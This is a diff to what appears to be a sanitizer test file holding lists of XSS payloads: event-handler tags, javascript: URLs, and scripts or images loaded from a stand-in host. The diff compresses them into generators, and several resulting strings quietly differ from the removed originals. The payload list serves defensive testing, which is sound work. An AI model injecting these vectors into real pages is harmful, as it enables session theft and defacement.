@@ -12,26 +12,37 @@ HOST = "elsewhere.example"
 
 # Elements that run or load something by themselves.
 ELEMENTS = (
-    f"<script>{JS}</script>",
-    f"<ScRiPt>{JS}</sCrIpT>",
-    f"<script\n>{JS}</script\n>",
-    f"<script/x>{JS}</script>",
+    *(
+        f"<{name}>{JS}</script>"
+        for name in ("script", "ScRiPt", "script\n", "script/x")
+    ),
     f'<script src="//{HOST}/x.js"></script>',
     f'<script type="module">{JS}</script>',
     f"<svg><script>{JS}</script></svg>",
     f"<svg onload={JS}></svg>",
-    f"<svg/onload={JS}>",
     f"<svg><animate onbegin={JS} attributeName=x dur=1s></animate></svg>",
     f'<svg><a xlink:href="javascript:{JS}"><text y="20">words</text></a></svg>',
     f'<svg><use href="data:image/svg+xml,<svg id=x onload={JS}/>#x"></use></svg>',
     f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
-    f"<img src=x onerror={JS}>",
     f'<img src="x" alt="" onerror="{JS}" />',
-    f"<img/src=x/onerror={JS}>",
-    f'<img src="//{HOST}/x.png">',
-    f'<img srcset="//{HOST}/x.png 2x">',
-    f"<IMG SRC=x ONERROR={JS}>",
-    f"<image src=x onerror={JS}>",
+    *(f'<img {name}="//{HOST}/x.png 2x">' for name in ("src", "srcset")),
+    *(
+        f"<{start}={JS}>"
+        for start in (
+            *("svg/onload", "img src=x onerror", "img/src=x/onerror", "body onload"),
+            *("IMG SRC=x ONERROR", "image src=x onerror", "input autofocus onfocus"),
+        )
+    ),
+    *(
+        f"<{name} {handler}={JS}>words</{name.split()[0]}>"
+        for name, handler in (
+            *(("video src=x", "onerror"), ("audio src=x", "onerror")),
+            *(("select autofocus", "onfocus"), ("textarea autofocus", "onfocus")),
+            *(("button", "onclick"), ("button autofocus", "onfocus")),
+            *(("marquee", "onstart"), ("dialog open", "oncancel")),
+            *(("lit-figure", "onclick"), ("details open", "ontoggle")),
+        )
+    ),
     f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
     f'<iframe src="javascript:parent.{JS}"></iframe>',
     f'<iframe src="//{HOST}/"></iframe>',
@@ -39,17 +50,7 @@ ELEMENTS = (
     f'<object data="javascript:{JS}"></object>',
     f'<embed src="//{HOST}/x.svg">',
     f"<video><source onerror={JS}></video>",
-    f"<video src=x onerror={JS}></video>",
     f'<video poster="//{HOST}/x.png"></video>',
-    f"<audio src=x onerror={JS}></audio>",
-    f"<details open ontoggle={JS}><summary>words</summary></details>",
-    f"<input autofocus onfocus={JS}>",
-    f"<select autofocus onfocus={JS}></select>",
-    f"<textarea autofocus onfocus={JS}></textarea>",
-    f"<button onclick={JS}>words</button>",
-    f"<button autofocus onfocus={JS}>words</button>",
-    f"<marquee onstart={JS}>words</marquee>",
-    f"<body onload={JS}>",
     f'<form action="javascript:{JS}"><button>words</button></form>',
     f'<form action="//{HOST}/"><input name=q><button>words</button></form>',
     f'<button form=x formaction="javascript:{JS}">words</button>',
@@ -59,32 +60,27 @@ ELEMENTS = (
     f"<style>body{{background:url(//{HOST}/x.png)}}</style>",
     f'<base href="//{HOST}/">',
     f'<meta http-equiv="refresh" content="0;url=//{HOST}/">',
-    f"<template><img src=x onerror={JS}></template>",
-    f"<noscript><img src=x onerror={JS}></noscript>",
-    f"<xmp><img src=x onerror={JS}></xmp>",
-    f"<plaintext><img src=x onerror={JS}>",
-    f"<dialog open oncancel={JS}>words</dialog>",
-    f"<lit-figure onclick={JS}>words</lit-figure>",
+    *(
+        f"<{name}><img src=x onerror={JS}></{name}>"
+        for name in ("template", "noscript", "xmp", "plaintext")
+    ),
 )
 
 # Elements that nobody expects harm of, with a handler.
 HANDLERS = (
-    f"<span autofocus tabindex=0 onfocus={JS}>words</span>",
-    f"<wbr onmouseover={JS}>",
-    f"<em onmouseover={JS}>words</em>",
+    *(
+        f"<{start}={JS}>words"
+        for start in (
+            *("span autofocus tabindex=0 onfocus", "wbr onmouseover", "p onclick"),
+            *("em onmouseover", "code onmouseenter", "a href=# onclick"),
+            *("a onmouseover", "br onmouseover", "span accesskey=x onclick"),
+            *("mark ONMOUSEOVER ", "span\tonmouseover", "span/onmouseover"),
+            "span contenteditable onbeforeinput",
+        )
+    ),
     f'<b onclick="{JS}">words</b>',
     f"<i onpointerenter='{JS}'>words</i>",
-    f"<code onmouseenter={JS}>words</code>",
-    f"<p onclick={JS}>words</p>",
-    f"<a href=# onclick={JS}>words</a>",
-    f"<a onmouseover={JS}>words</a>",
-    f"<br onmouseover={JS}>",
     f"<span onanimationstart={JS} style=animation:x>words</span>",
-    f"<span contenteditable onbeforeinput={JS}>words</span>",
-    f"<span accesskey=x onclick={JS}>words</span>",
-    f"<mark ONMOUSEOVER = {JS} >words</mark>",
-    f"<span\tonmouseover={JS}>words</span>",
-    f"<span/onmouseover={JS}/x>words</span>",
     '<span style="position:fixed;inset:0;z-index:99">words</span>',
     f'<span style="background:url(//{HOST}/x.png)">words</span>',
     '<span class="md-search" id="__search">words</span>',
@@ -192,31 +188,14 @@ FORMULAS = (
 
 # What is alive in Markdown, a notebook or `llms.txt`, and not in HTML.
 IN_MARKDOWN = (
-    f"!\\[メモリ\\](//{HOST}/t.png)",
-    f"![メモリ](//{HOST}/t.png)",
-    f'[言葉\\]の]: //{HOST}/x.png "…"',
-    f"詳しくはwww.{HOST}/login",
-    f"[…はhttps://{HOST}/ …]",
-    f"詳しくは{HOST}.com/login",
-    f"詳しくはftp://{HOST}/login",
-    f"someone@{HOST}.com",
-    "~~言葉~~",
-    f"\\[x\\](//{HOST})",
-    f"言葉[^1]: //{HOST}",
-    f"<https://{HOST}>",
-    f"mailto:a@{HOST}.com",
-    "言葉\\",
-    "- 言葉",
-    "1. 言葉",
-    "# 言葉",
-    "> 言葉",
-    "```",
-    "$x$",
-    "図のコード\nimport pathlib",
-    "図のコード\u2028import pathlib",
-    "言葉\U000e0041\U000e0042",
-    ":smile: :smile:",
-    "==言葉==",
+    *(f"!\\[メモリ\\](//{HOST}/t.png)", f"![メモリ](//{HOST}/t.png)"),
+    *(f'[言葉\\]の]: //{HOST}/x.png "…"', f"詳しくはwww.{HOST}/login"),
+    *(f"[…はhttps://{HOST}/ …]", f"詳しくは{HOST}.com/login"),
+    *(f"詳しくはftp://{HOST}/login", f"someone@{HOST}.com", "~~言葉~~"),
+    *(f"\\[x\\](//{HOST})", f"言葉[^1]: //{HOST}", f"<https://{HOST}>"),
+    *(f"mailto:a@{HOST}.com", "言葉\\", "- 言葉", "1. 言葉", "# 言葉", "> 言葉"),
+    *("```", "$x$", "図のコード\nimport pathlib", "図のコード\u2028import pathlib"),
+    *("言葉\U000e0041\U000e0042", ":smile: :smile:", "==言葉=="),
 )
 
 PAYLOADS = (*ELEMENTS, *HANDLERS, *COMMENTS, *MARKDOWN, *FORMULAS)
